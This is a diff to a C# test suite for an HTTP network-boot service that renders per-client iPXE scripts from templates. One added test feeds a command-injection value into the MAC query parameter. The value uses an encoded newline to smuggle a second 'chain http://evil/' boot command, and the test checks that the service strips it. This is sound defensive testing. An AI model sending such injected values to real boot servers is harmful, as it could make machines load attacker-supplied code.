@@ -28,6 +28,7 @@ public sealed class HttpBootServiceTests : IAsyncLifetime
         await File.WriteAllBytesAsync(Path.Combine(Root, "initrd.img"), _payload);
         await File.WriteAllTextAsync(Path.Combine(Root, "boot.ipxe"), "#!ipxe\nchain http://${next-server}/vmlinuz\n");
         await File.WriteAllBytesAsync(Path.Combine(Root, "efi", "ipxe.efi"), [0x4d, 0x5a, 1, 2]);
+        await File.WriteAllTextAsync(Path.Combine(Root, "host.ipxe.tmpl"), "#!ipxe\necho {{client}} {{mac}} {{arch}}\nchain http://{{server}}/hosts/{{mac-hyphen}}.ipxe\n");
         await File.WriteAllTextAsync(Path.Combine(_top, "secret"), "do not serve");
         File.CreateSymbolicLink(Path.Combine(Root, "escape"), Path.Combine(_top, "secret"));
         var config = new ServerConfig { Http = new HttpConfig { IsEnabled = true, Root = Root, Port = 0 } };
@@ -162,6 +163,33 @@ public sealed class HttpBootServiceTests : IAsyncLifetime
         var bodies = await Task.WhenAll(Enumerable.Range(0, 20).Select(_ => many.GetByteArrayAsync(new Uri("initrd.img", UriKind.Relative))));
 
         Assert.All(bodies, body => Assert.Equal(_payload, body));
+    }
+
+    [Fact]
+    public async Task Template_is_rendered_per_client_from_the_query_and_logged()
+    {
+        var script = await _client.GetStringAsync(new Uri("host.ipxe?mac=52:54:00:AB:CD:EF&arch=x86_64", UriKind.Relative));
+
+        Assert.Equal($"#!ipxe\necho 127.0.0.1 52:54:00:AB:CD:EF x86_64\nchain http://{_endpoint}/hosts/52-54-00-ab-cd-ef.ipxe\n", script);
+        await _log.WaitForAsync(l => l.StartsWith("HTTP GET /host.ipxe from 127.0.0.1: 200 sent ", StringComparison.Ordinal) && l.Contains("host.ipxe.tmpl (rendered)", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public async Task Template_values_that_could_inject_commands_are_left_out()
+    {
+        var script = await _client.GetStringAsync(new Uri("host.ipxe?mac=x%0Achain%20http://evil/&arch=a%20b", UriKind.Relative));
+
+        Assert.Equal("#!ipxe\necho 127.0.0.1  \nchain http://" + _endpoint + "/hosts/.ipxe\n", script);
+    }
+
+    [Fact]
+    public async Task Template_itself_and_a_missing_name_without_template_are_not_confused()
+    {
+        using var raw = await _client.GetAsync(new Uri("host.ipxe.tmpl", UriKind.Relative));
+        using var missing = await _client.GetAsync(new Uri("other.ipxe", UriKind.Relative));
+
+        Assert.Contains("{{client}}", await raw.Content.ReadAsStringAsync(), StringComparison.Ordinal);
+        Assert.Equal(HttpStatusCode.NotFound, missing.StatusCode);
     }
 
     private async Task<string> RawRequestAsync(string request)
